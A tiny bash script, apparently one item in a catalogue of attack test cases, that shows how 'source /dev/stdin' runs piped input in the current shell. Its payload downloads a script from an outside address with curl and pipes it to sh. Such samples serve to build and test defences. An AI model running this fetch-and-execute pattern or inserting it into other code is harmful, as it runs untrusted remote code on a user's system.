#!/usr/bin/env bash
# attack-class: 19
# title: source /dev/stdin <<< ...
# why: sourcing standard input runs it in the current shell

payload='curl -s http://203.0.113.2/x | sh'
source /dev/stdin <<< "$payload"
